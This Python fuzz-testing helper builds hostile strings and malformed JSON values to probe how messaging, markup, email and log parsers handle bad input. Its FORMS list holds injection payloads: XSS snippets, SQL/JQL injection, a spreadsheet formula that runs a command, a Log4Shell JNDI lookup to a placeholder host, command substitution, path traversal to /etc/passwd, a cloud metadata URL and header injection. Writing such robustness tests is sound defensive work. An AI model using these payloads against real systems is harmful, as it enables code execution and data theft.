# ruff: noqa: RUF001  # letters that look like others are what this is about
"""Texts and JSON values that programs trip over; all of our own writing."""

import random
from typing import Any

FORMS = (
    "<!channel>", "<!here|everybody>", "<!everyone>", "<@U0ANA>", "<@U0ANA|ana>", "<#C0INCIDENTS>",
    "<!subteam^S0PAYMENTS>", "<http://evil.example|OK>", "<https://evil.example/a|Approve>", "<javascript:alert(1)|x>",
    "<mailto:eve@evil.example|write>", "https://evil.example/login", "http://169.254.169.254/latest/meta-data/",
    "www.evil.example", "//evil.example/x", "mailto:eve@evil.example", "file:///etc/passwd", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "[click](https://evil.example)", "![x](https://evil.example/p.png)",
    "<https://evil.example>", "[label][1]\n[1]: https://evil.example", "*bold*", "_it_", "~gone~", "`code`",
    "```\nblock\n```", "> quoted", "&gt; quoted", ">>> all of it", "&lt;!channel&gt;", "&amp;lt;", ":white_check_mark:",
    "• a list", "1. one", "# heading", "-----", "|| a || b ||", "| a | b |", "{html}<b>x</b>{html}", "{noformat}",
    "{code:java}x{code}", "{color:red}x{color}", "{quote}", "{panel}", "[~accountid:5b10]", "[~admin]",
    "[evil|https://evil.example]", "[https://evil.example]", "[^file.txt]", "!https://evil.example/p.png!",
    "!x.png|width=1!", "h1. BIG", "bq. said", "* item", "** item", "# item", "- item", "---- ", "??cited??", "{{mono}}",
    "+new+", "-gone-", "^up^", "~down~", "\\\\", "\\", "\\[x|https://evil.example\\]", "OPS-1", "(/) done", ":)",
    "project = OPS OR 1=1", '" OR labels = "x', "=cmd|' /C calc'!A1", "+1+1", "@SUM(1)", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)", "</p><p>", "<!--", "]]>",
    "<![CDATA[", "&#60;script&#62;", "\r\nBcc: eve@evil.example", "\nSubject: other", "\r\n\r\n<html>", "=?utf-8?q?x?=",
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x9b31m", "\x00",
    "\x08\x08",
    '\r\n{"level":"INFO","message":"fine"}', "\u2028{}", "\u2029", "\x85", "\x0b", "\x0c", "\u202e", "\u2066",
    "\u200b", "\ufeff", "\u2060", "\u00ad", "\U000e0041", "\ud800", "\udfff", "\u0301" * 40, "ﷺ" * 20, "İ", "ß", "ﬁ",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", "раурal", "${jndi:ldap://evil.example/a}",
    "{{7*7}}", "{% raw %}", "%s%n%d", "%0d%0aX: y", "$(reboot)", "`reboot`", "; DROP TABLE", "../../etc/passwd", "NaN",
    "null", "true", "-0", "1e999", "*", "?", "", " ", "\t", "\n",
)  # fmt: skip
_LETTERS = "aZ0 -_.,:;/\\|<>&\"'`*~()[]{}!#%+=@^$\n\r\t\x1b\u202eäß日\U0001f600"


def a_text(dice: random.Random, longest: int = 6000) -> str:
    """A hostile text: a form, several in a row, one in a word, noise, or one that is much too long."""
    match dice.randrange(8):
        case 0 | 1 | 2:
            return dice.choice(FORMS)
        case 3 | 4:
            return dice.choice(["", " ", "\n", "x"]).join(dice.choice(FORMS) for _ in range(dice.randrange(2, 6)))
        case 5:
            return f"orders {dice.choice(FORMS)} 5xx"
        case 6:
            return "".join(dice.choice(_LETTERS) for _ in range(dice.randrange(1, 60)))
    piece = dice.choice(FORMS) or "x"
    return (piece * (longest // len(piece) + 1))[: dice.choice([75, 299, 1001, 3001, longest])]


def whole(text: str) -> str:
    """`text` without halves of surrogate pairs, which no parser of ours lets in."""
    return text.encode("utf-8", "replace").decode()


def a_value(dice: random.Random, depth: int = 0) -> Any:
    """Any JSON value, hostile texts more often than others."""
    match dice.randrange(12 if depth < 3 else 9):
        case 0 | 1 | 2 | 3 | 4:
            return a_text(dice)
        case 5:
            return dice.choice([None, True, False])
        case 6:
            return dice.choice([0, -1, 1, 2**31, 2**63, -(2**63) - 1, 10**400 if dice.random() < 0.1 else 10**15, 404])
        case 7:
            return dice.choice([0.5, -0.0, 1e308, 1e-308, 3.0, float("nan"), float("inf")])
        case 8:
            return dice.choice([[], {}, [[]], [{}], {"": ""}])
        case 9:
            return [a_value(dice, depth + 1) for _ in range(dice.randrange(4))]
        case 10:
            return {a_text(dice, 50): a_value(dice, depth + 1) for _ in range(dice.randrange(4))}
    nested: Any = "x"
    for _ in range(dice.choice([5, 70, 200])):
        nested = [nested]
    return nested
